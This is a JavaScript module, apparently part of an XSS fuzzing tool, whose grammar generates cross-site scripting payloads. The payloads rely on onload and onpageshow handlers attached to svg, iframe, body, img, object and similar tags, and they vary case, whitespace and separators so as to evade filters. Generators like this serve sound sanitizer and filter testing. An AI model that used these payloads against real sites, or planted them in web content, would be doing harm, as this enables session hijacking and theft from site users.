import { xssGenerator } from '../xss-generator.js';

/** Nothing need go wrong: elements that say when they are there. */
export const loadHandler = xssGenerator({
  name: 'load-handler',
  rules: {
    start: [
      '{open}<{loading}{gap}onload={value}>',
      '{open}<{loading} onload={value}></{letters}>',
      '{open}<{loading}{gap}onload={value}'.concat('>'),
      '{open}<body {body-event}={value}>',
      '{open}<svg><{inner} onload={value}>',
    ],
    loading: [
      'svg',
      'svg',
      'SVG',
      'svg id=x',
      'iframe',
      'iframe src=about:blank',
      'iframe srcdoc',
      'body',
      'style',
      'link rel=stylesheet href=data:text/css,',
      'img src=data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7',
      'frameset',
      'object data=about:blank',
      'embed src=about:blank',
      'script src=data:,',
      'input type=image src=data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7',
      'iframe src=x',
      'template',
      'svg width=1',
    ],
    inner: [
      'svg',
      'style',
      'image href=data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7',
      'script href=data:,',
      'g><svg',
    ],
    gap: [' ', '/', '\n', '\t', '  ', ' x '],
    'body-event': ['onload', 'onpageshow', 'onLoad', 'ONPAGESHOW'],
    value: ['{bare}', '"{script}"', "'{bare}'", '{bare}', '" {script};"'],
  },
});
